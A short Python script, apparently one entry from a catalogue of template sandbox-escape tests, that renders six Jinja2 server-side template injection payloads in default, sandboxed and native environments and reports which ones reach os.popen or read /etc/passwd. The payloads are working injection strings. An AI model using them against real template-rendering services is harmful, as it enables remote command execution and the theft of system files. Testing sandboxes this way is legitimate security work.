# escape: 311
# packages: jinja2
# technique: a template walks from an object to os
# family: attr
# goal: run-command
# first-seen: server-side template injection payloads
import jinja2
from jinja2 import nativetypes, sandbox
payloads = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() | map(attribute='__init__.__globals__') | list }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ namespace.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ range.__class__('x', (), {'__init_subclass__': lipsum}) }}",
]
for env in (jinja2.Environment(), sandbox.SandboxedEnvironment(), nativetypes.NativeEnvironment()):
    for text in payloads:
        try: out = str(env.from_string(text).render())
        except Exception: continue
        if "uid=" in out or "root:" in out: print("ESCAPED:" + out[:60])
